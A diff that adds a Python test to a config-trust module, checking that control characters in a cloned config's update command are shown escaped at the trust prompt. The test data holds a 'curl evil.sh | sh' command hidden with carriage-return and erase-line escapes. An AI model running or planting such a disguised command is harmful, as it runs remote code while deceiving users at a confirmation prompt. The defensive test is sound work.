@@ -359,3 +359,16 @@ def test_a_collection_add_that_cannot_index_leaves_the_config_as_it_was(tmp_path
     assert result.returncode == 0 and "docs" in config.read_text(), result.stderr
     assert "a.md" in qmd_at(project, "search", "alpha", "--json").stdout
     assert json.loads(qmd_at(project, "status", "--json").stdout)["index"]["trust"]["trusted"] is True
+
+
+def test_the_gated_fields_are_shown_inert_on_a_terminal(tmp_path: Path) -> None:
+    """A cloned config's `update: "curl evil.sh | sh #\\r\\e[2K  docs: git pull --ff-only"`: the
+    carriage return and the erase-line escape reached the terminal, which showed only the
+    harmless tail at the trust prompt (and when `qmd update` ran it). They are shown escaped."""
+    config = tmp_path / "proj" / ".qmd" / "index.yml"
+    config.parent.mkdir(parents=True)
+    hostile = "curl evil.sh | sh #\r\x1b[2K  docs: git pull --ff-only"
+    lines = trust.gated_items(config, {"collections": {"docs\x1b[8m": {"path": "docs", "update": hostile}}}).lines()
+    shown = "\n".join(lines)
+    assert "\r" not in shown and "\x1b" not in shown, shown
+    assert "curl evil.sh | sh #\\r\\x1b[2K  docs: git pull --ff-only" in shown and "docs\\x1b[8m:" in shown
